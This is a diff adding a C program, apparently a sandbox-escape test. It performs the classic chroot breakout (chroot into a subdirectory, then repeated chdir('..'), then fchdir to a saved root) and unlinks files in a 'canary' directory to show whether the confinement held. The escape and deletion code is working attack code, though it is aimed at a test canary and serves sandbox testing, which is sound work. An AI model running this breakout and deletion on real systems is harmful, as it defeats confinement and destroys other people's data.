@@ -1,0 +1,64 @@
+// attack: escape: chroot (into the workspace, then the classic mkdir/chroot/chdir("..") breakout) and destroy the canary through the new root
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <sched.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+// The canary's regular files (top level), as names relative to it: the attack does not assume them.
+static int canary_files(const char *canary, char names[][256], int max) {
+    DIR *d = opendir(canary);
+    int n = 0;
+    struct dirent *e;
+    if (!d) { perror(canary); return 0; }
+    while (n < max && (e = readdir(d)))
+        if (e->d_type == DT_REG) snprintf(names[n++], 256, "%s", e->d_name);
+    closedir(d);
+    return n;
+}
+
+static long show(const char *what, long r) {
+    printf("%s -> %ld (%s)\n", what, r, r < 0 ? strerror(errno) : "success");
+    fflush(stdout);
+    return r;
+}
+
+static void write_file(const char *path, const char *text) {
+    int fd = open(path, O_WRONLY);
+    if (fd >= 0) { write(fd, text, strlen(text)); close(fd); }
+}
+
+int main(void) {
+    const char *canary = getenv("CANARY");
+    if (!canary) { fprintf(stderr, "CANARY not set\n"); return 2; }
+    char f[2][256], cwd[4096], p[4096];
+    if (canary_files(canary, f, 2) < 2) { fprintf(stderr, "fewer than 2 canary files\n"); return 2; }
+    if (!getcwd(cwd, sizeof cwd)) return 1;
+    int root = open("/", O_PATH | O_DIRECTORY);
+    mkdir("escape-jail", 0755);
+    errno = 0; show("chroot(escape-jail)", chroot("escape-jail"));
+    // Breakout: we are outside the new root (cwd), walk up and make the real / the root again.
+    for (int i = 0; i < 64; i++) chdir("..");
+    errno = 0; show("chroot(.) after chdir(..) x64", chroot("."));
+    errno = 0; show("fchdir(saved /) + chroot(.)", fchdir(root) == 0 ? chroot(".") : -1);
+    chdir(cwd);
+    // In the workspace as the root: the canary is then "/protected/..." (if the chroot took).
+    errno = 0; show("chroot(workspace)", chroot(cwd));
+    snprintf(p, sizeof p, "/%s/%s", strrchr(canary, '/') + 1, f[0]);
+    char label[4400];
+    snprintf(label, sizeof label, "unlink(%s) inside the workspace root", p);
+    errno = 0; show(label, unlink(p));
+    snprintf(p, sizeof p, "%s/%s", canary, f[1]);
+    snprintf(label, sizeof label, "unlink(%s)", p);
+    errno = 0; show(label, unlink(p));
+    snprintf(p, sizeof p, "%s/%s", canary + strlen(cwd), f[1]);
+    errno = 0; show("unlink(same, relative to the new root)", unlink(p));
+    return 0;
+}
